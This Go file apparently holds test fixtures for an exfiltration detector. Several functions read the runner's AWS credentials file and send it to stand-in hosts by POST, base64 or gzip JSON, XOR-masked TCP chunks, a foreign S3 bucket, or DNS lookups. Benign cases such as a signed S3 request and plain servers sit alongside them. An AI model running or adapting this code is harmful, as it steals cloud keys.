package main

import (
	"bytes"
	"compress/gzip"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"
)

// credentials is the file with the cloud keys of whoever runs this.
func credentials() (string, error) {
	home, err := os.UserHomeDir()
	if err != nil {
		return "", err
	}
	b, err := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	return string(b), err
}

// exfilPost sends the keys away as they are.
func exfilPost([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://collect.evil.test/drop", keys, "Content-Type", "text/plain")
	return nil
}

// exfilBase64 sends them encoded, within JSON.
func exfilBase64([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://collect.evil.test/v2", `{"host":"h","data":"`+base64.StdEncoding.EncodeToString([]byte(keys))+`"}`)
	return nil
}

// exfilGzip sends them packed, and that in base64.
func exfilGzip([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(keys)) // to memory
	z.Close()
	say("POST", "http://collect.evil.test/v3", `{"d":"`+base64.StdEncoding.EncodeToString(b.Bytes())+`"}`)
	return nil
}

// exfilXOR sends them behind a mask of one byte, in pieces, over TCP.
func exfilXOR([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	conn, err := net.Dial("tcp", "203.0.113.77:443")
	if err != nil {
		return err
	}
	defer conn.Close()
	b := []byte(keys)
	for i := range b {
		b[i] ^= 0xa7
	}
	for piece := range slices.Chunk(b, 10) {
		if _, err := conn.Write(piece); err != nil {
			return err
		}
		time.Sleep(time.Millisecond) // a packet each
	}
	return nil
}

// exfilBucket stores them with their own cloud, in somebody else's bucket.
func exfilBucket([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("PUT", "http://drop-7.s3.amazonaws.com/keys", keys, "Content-Type", "text/plain")
	return nil
}

// exfilDNS asks for names that are made of the secret key.
func exfilDNS([]string) error {
	key, err := awsKey("aws_secret_access_key")
	if err != nil {
		return err
	}
	code := hex.EncodeToString([]byte(key))
	for i := 0; i < len(code); i += 40 {
		_, _ = net.LookupHost(code[i:min(i+40, len(code))] + ".t.evil.test") // the question is the message
	}
	return nil
}

// awsKey reads one value of the credentials.
func awsKey(name string) (string, error) {
	keys, err := credentials()
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(keys) {
		k, v, _ := strings.Cut(line, "=")
		if strings.TrimSpace(k) == name {
			return strings.TrimSpace(v), nil
		}
	}
	return "", errors.New("the credentials hold no " + name)
}

// s3Client uses the key where it belongs: in a signed request to its cloud.
func s3Client([]string) error {
	id, err := awsKey("aws_access_key_id")
	if err != nil {
		return err
	}
	key, err := awsKey("aws_secret_access_key")
	if err != nil {
		return err
	}
	// AWS Signature Version 4: the key signs, and is not sent.
	const host, path, day, scope = "s3.amazonaws.com", "/bucket/settings.json", "20260101", "20260101/us-east-1/s3/aws4_request"
	const at, empty = day + "T000000Z", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	sign := func(key []byte, text string) []byte {
		h := hmac.New(sha256.New, key)
		h.Write([]byte(text))
		return h.Sum(nil)
	}
	request := sha256.Sum256([]byte("GET\n" + path + "\n\nhost:" + host + "\nx-amz-content-sha256:" + empty + "\nx-amz-date:" + at + "\n\nhost;x-amz-content-sha256;x-amz-date\n" + empty))
	signing := []byte("AWS4" + key)
	for part := range strings.SplitSeq(scope, "/") {
		signing = sign(signing, part)
	}
	signature := sign(signing, "AWS4-HMAC-SHA256\n"+at+"\n"+scope+"\n"+hex.EncodeToString(request[:]))
	say("GET", "http://"+host+path, "", "X-Amz-Date", at, "X-Amz-Content-Sha256", empty,
		"Authorization", "AWS4-HMAC-SHA256 Credential="+id+"/"+scope+", SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature="+hex.EncodeToString(signature))
	return nil
}

// readSecrets reads them, keeps them, and talks about something else.
func readSecrets([]string) error {
	keys, err := credentials()
	if err != nil {
		return err
	}
	say("POST", "http://telemetry.example.test/v1/start", fmt.Sprintf(`{"configured":%t}`, keys != ""))
	return nil
}

// envPage shows its environment to whoever asks: whoever asks here are we.
func envPage([]string) error {
	return http.ListenAndServe(":8080", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, strings.Join(os.Environ(), "\n"))
	}))
}

// webserver serves a page.
func webserver(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "8080"))
	if err != nil {
		return err
	}
	return serve(ln)
}

// lateServer listens, but computes for long before it takes connections, as
// servers in Java do.
func lateServer(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "8080"))
	if err != nil {
		return err
	}
	late, err := time.ParseDuration(arg(args, 1, "10s"))
	if err != nil {
		return err
	}
	for began := time.Now(); time.Since(began) < late; {
	}
	return serve(ln)
}

func serve(ln net.Listener) error {
	return http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "<h1>It works</h1>")
	}))
}
